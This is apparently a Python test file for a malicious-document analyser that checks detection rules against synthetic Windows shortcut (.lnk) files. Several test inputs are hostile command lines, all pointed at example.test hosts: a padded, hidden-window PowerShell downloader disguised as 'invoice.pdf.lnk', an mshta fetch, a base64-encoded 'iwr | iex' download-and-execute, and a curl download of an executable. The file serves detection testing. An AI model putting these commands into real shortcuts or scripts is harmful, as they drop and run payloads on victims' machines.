"""Windows shortcut extractor: synthetic shortcuts (samples.lnk), one construct per test."""

from __future__ import annotations

import base64

from maldoc.engine import analyze
from maldoc.filetype import detect
from maldoc.samples import lnk
from maldoc.types import FileType

PS = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
LNK = FileType("lnk")


def rules(node) -> set[str]:
    return {f.rule_id for f in node.result.findings}


def feat(node, name: str) -> float:
    return node.result.features[f"lnk.{name}"]


def test_shortcut_to_a_document_is_quiet():
    data = lnk.shortcut(target=r"C:\Users\alex\Documents\report.docx", working_dir=r"C:\Users\alex\Documents")
    assert detect(data) is LNK
    node = analyze(data, "report.lnk")
    assert node.file_type is LNK and not rules(node) and not node.result.flags
    assert feat(node, "parsed") == 1 and feat(node, "target_interpreter") == 0 and feat(node, "hidden_window") == 0


def test_padded_hidden_powershell_downloader_with_decoy_icon():
    args = " " * 250 + "-nop -w hidden -c \"iwr https://files.example.test/a.exe -OutFile $env:TEMP\\a.exe\""
    node = analyze(lnk.shortcut(target=PS, arguments=args, icon=r"C:\Windows\System32\imageres.dll",
                                show=lnk.SW_SHOWMINNOACTIVE), "invoice.pdf.lnk")
    assert {"LNK_SHELL_COMMAND", "LNK_DOWNLOAD", "LNK_PADDED_ARGUMENTS", "LNK_HIDDEN_WINDOW",
            "LNK_DECOY_ICON"} <= rules(node)
    assert feat(node, "arguments_padding") == 250 and feat(node, "show_hidden") == 1
    assert "https://files.example.test/a.exe" in node.result.urls


def test_target_only_in_the_environment_block_and_lolbin():
    node = analyze(lnk.shortcut(arguments="/c start mshta https://x.example.test/a.hta",
                                env_target=r"%windir%\system32\cmd.exe"), "a.lnk")
    assert "LNK_SHELL_COMMAND" in rules(node) and "LNK_DOWNLOAD" in rules(node)
    assert feat(node, "env_target") == 1 and feat(node, "target_lolbin") == 1 and feat(node, "programs") == 2


def test_encoded_command_is_decoded_and_read():
    blob = base64.b64encode("iwr https://stage.example.test/p | iex".encode("utf-16-le")).decode()
    node = analyze(lnk.shortcut(target=PS, arguments=f"-w hidden -ec {blob}"), "a.lnk")
    assert {"LNK_ENCODED_COMMAND", "LNK_DOWNLOAD"} <= rules(node)
    assert "https://stage.example.test/p" in node.result.urls


def test_appended_payload_becomes_a_child():
    script = b"@echo off\r\nrem inert\r\npowershell -c Write-Output inert\r\n" * 3
    node = analyze(lnk.shortcut(target=PS, arguments="-c Write-Output 1", trailer=script), "a.lnk")
    assert "LNK_APPENDED_DATA" in rules(node)
    assert [c.name for c in node.children] == ["appended.bat"]
    assert node.children[0].file_type is FileType("script_bat")


def test_broken_shortcut_is_flagged_and_still_searched():
    data = lnk.shortcut(target=PS, arguments="-c iwr https://x.example.test/a")[:90]
    data += "cmd.exe /c curl https://x.example.test/b -o a.exe".encode("utf-16-le")
    node = analyze(data, "a.lnk")
    assert node.file_type is LNK
    assert node.result.errors == [] or any("lnk" in e for e in node.result.errors)
    assert "LNK_SHELL_COMMAND" in rules(node)


def test_mail_sniffer_label_is_unchanged():
    from maldoc.extractors import _mail_sniff as sniff

    assert sniff.kind(lnk.shortcut(target=PS)) == "lnk"


def test_target_from_link_info():
    node = analyze(lnk.shortcut(local_path=r"C:\Windows\System32\mshta.exe", arguments="https://h.example.test/a.hta"),
                   "a.lnk")
    assert "LNK_SHELL_COMMAND" in rules(node) and feat(node, "target_interpreter") == 1
    assert feat(node, "target_lolbin") == 1 and "LNK_DOWNLOAD" in rules(node)
